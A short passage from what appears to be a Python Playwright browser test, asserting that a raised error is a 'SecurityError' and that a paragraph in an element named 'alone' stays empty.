        == "SecurityError"
    )
    await expect(alone.locator("p")).to_have_text("")
